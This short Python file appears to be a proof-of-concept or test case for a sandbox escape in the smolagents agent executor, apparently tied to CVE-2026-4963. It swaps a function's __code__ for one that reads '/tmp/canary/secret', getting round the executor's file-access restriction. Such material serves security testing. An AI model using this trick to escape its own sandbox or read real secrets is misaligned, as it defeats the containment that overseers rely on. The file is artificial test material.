# source: smolagents CVE-2026-4963
# effect: secret

class Holder:
    pass


def target(path):
    return path


def model(path):
    return open(path).read()


target.__code__ = model.__code__
print(target("/tmp/canary/secret"))
